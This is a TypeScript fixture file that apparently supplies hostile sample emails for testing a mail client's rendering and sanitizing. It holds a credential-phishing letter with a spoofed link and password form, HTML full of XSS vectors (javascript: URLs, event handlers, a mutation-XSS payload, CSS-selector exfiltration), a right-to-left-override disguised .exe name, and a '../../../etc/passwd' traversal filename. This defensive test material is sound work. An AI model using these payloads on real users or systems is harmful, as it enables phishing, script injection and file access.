/** Specimens of fraud and of HTML that wants to act; every host in them is reserved or unreal. */
import type { Letter } from '@/lib/demo/writing/letter';
import { file, html, multipart, text } from '@/lib/demo/writing/part';

const phishing: Letter = {
  name: 'phishing-bank',
  theme: 'hostile',
  when: { days: 3, at: '02:47' },
  from: { name: 'Meridian Bank Security', address: 'security@meridian-bank.example.org' },
  subject: 'URGENT: your account will be closed in 24 hours',
  header: {
    'Reply-To': 'Meridian Bank <collect@quick-money.example>',
    'X-Priority': '1',
  },
  body: html(`<!DOCTYPE html><html><head><title>Meridian Bank</title>
<script>document.title = 'this must never run'; parent.postMessage('hostile', '*');</script>
<meta http-equiv="refresh" content="5;url=https://quick-money.example/verify">
<base href="https://quick-money.example/">
</head><body onload="alert('hostile')" style="font-family:Arial,sans-serif;color:#222222">
<table width="560" align="center" cellpadding="20" style="border:1px solid #cccccc"><tr><td>
<p style="color:#12395b;font-size:20px;font-weight:bold">Meridian Bank</p>
<p>Dear costumer,</p>
<p>we noticed unusual activities. To avoid that your account is <b>closed in 24 hours</b>, confirm your identity now:</p>
<p><a href="https://meridian-bank.example.org.quick-money.example/login?id=anna%40poplar.example" onclick="steal()">https://www.meridian-bank.example/secure</a></p>
<form action="https://quick-money.example/collect" method="post">
<p><label>Password <input type="password" name="password" autofocus></label> <input type="submit" value="Confirm"></p>
</form>
<img src="https://quick-money.example/seen.gif?anna" onerror="alert('hostile')" width="1" height="1">
<iframe src="https://quick-money.example/frame" width="1" height="1"></iframe>
<p style="font-size:11px;color:#999999">Meridian Bank, Security Departement. Do not contact your branch.</p>
</td></tr></table></body></html>`),
};

const acting: Letter = {
  name: 'html-that-acts',
  theme: 'hostile',
  when: { days: 12, at: '03:33' },
  from: { name: 'Lucky Wheel', address: 'prize@lucky-wheel.example' },
  subject: 'You have (1) prize waiting, open to spin',
  body: multipart('alternative', [
    text('You have one prize waiting. Turn on scripts to spin the wheel.'),
    html(`<div style="position:fixed;inset:0;z-index:2147483647;background:#fff6d6;text-align:center;font-family:Arial,sans-serif">
<style>@import url('https://lucky-wheel.example/a.css'); body { background: url(https://lucky-wheel.example/b.png) } input[value^="a"] { background: url(https://lucky-wheel.example/a) } * { animation: spin 1s infinite }</style>
<h1>Spin the wheel!</h1>
<svg width="80" height="80" onload="alert('hostile')"><circle cx="40" cy="40" r="36" fill="#e0a100"/><script>alert('hostile')</script></svg>
<p><a href="javascript:alert('hostile')">Spin</a> &middot; <a href="data:text/html,&lt;script&gt;alert('hostile')&lt;/script&gt;">Try again</a> &middot; <a href="  jAvAsCrIpT:alert('hostile')">Once more</a></p>
<img src="x" onerror="alert('hostile')"><img src="javascript:alert('hostile')">
<video src="https://lucky-wheel.example/v.mp4" autoplay></video><audio src="https://lucky-wheel.example/a.mp3" autoplay></audio>
<object data="https://lucky-wheel.example/o.swf"></object><embed src="https://lucky-wheel.example/e.swf">
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=alert('hostile')&gt;"></mglyph></table></mtext></math>
<div id="getElementById" name="cookie">This names itself like a part of the page.</div>
<link rel="stylesheet" href="https://lucky-wheel.example/c.css"><link rel="preload" as="image" href="https://lucky-wheel.example/p.png">
</div>`),
  ]),
};

/** The end of the name is written backwards: it shows as ending in `fdp.exe`, turned round. */
const reversedName = `invoice-${String.fromCodePoint(0x202e)}fdp.exe`;

const reversed: Letter = {
  name: 'reversed-file-name',
  theme: 'hostile',
  when: { days: 25, at: '04:04' },
  from: { name: 'anna@poplar.example', address: 'billing@unpaid.example' },
  subject: 'Unpaid invoice from your own address',
  header: { 'Reply-To': 'pay@unpaid.example' },
  body: multipart('mixed', [
    text('You sent this to yourself. Open the invoice and pay within one hour.'),
    file(Buffer.from('This file is harmless; its name is not.\r\n'), {
      type: 'application/octet-stream',
      filename: reversedName,
    }),
    file(Buffer.from('This one would like to climb.\r\n'), {
      type: 'text/plain',
      filename: '../../../etc/passwd',
    }),
  ]),
};

/** A phishing letter, HTML full of traps, and names that lie. */
export const hostile = (): Letter[] => [phishing, acting, reversed];
